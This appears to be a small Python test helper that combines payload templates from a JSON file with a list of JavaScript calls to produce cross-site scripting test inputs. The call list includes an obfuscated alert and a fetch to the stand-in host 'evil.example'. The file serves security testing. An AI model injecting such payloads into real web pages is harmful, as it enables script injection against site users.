"""Texts that would run, if anything ever took a text for more than a text."""

import json
from pathlib import Path

_FORMS = Path(__file__).parent.parent / "payloads" / "hostile.json"
_CALLS = (
    "alert(1)",
    "alert`1`",
    "top.alert(1)",
    "self['al'+'ert'](1)",
    "fetch('//evil.example')",
    "print()",
    "confirm(1)",
)


def payloads(count: int) -> list[str]:
    """So many different hostile texts: each form with each call, in the order of the calls."""
    forms = json.loads(_FORMS.read_text("utf-8"))
    found = list(dict.fromkeys(form.replace("CALL", call) for call in _CALLS for form in forms))
    assert len(found) >= count
    return found[:count]
